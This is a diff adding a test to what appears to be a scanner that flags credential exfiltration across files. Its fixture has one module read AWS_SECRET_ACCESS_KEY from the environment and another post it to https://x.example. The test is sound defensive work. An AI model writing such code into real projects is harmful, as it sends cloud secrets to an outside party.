@@ -251,3 +251,16 @@ def test_a_request_through_another_file_tells_its_host():
         "import",
     )
     assert "env" in net.taints
+
+
+def test_a_key_that_another_file_reads_and_this_one_sends_when_it_is_called_is_held():
+    files = {
+        "acme/keys.py": "import os\nimport subprocess\n\n\ndef read():\n    return os.environ['AWS_SECRET_ACCESS_KEY']\n",
+        "acme/client2.py": (
+            "import requests\nfrom .keys import read\n\n\ndef ask():\n"
+            "    return requests.post('https://x.example', json={'k': read()})\n"
+        ),
+    }
+    assert "credential-exfiltration" in held(scan(changed(files, BASE)))
+    signed = files["acme/client2.py"].replace("read()}", "sign(read())}")
+    assert not held(scan(changed({**files, "acme/client2.py": signed}, BASE)))
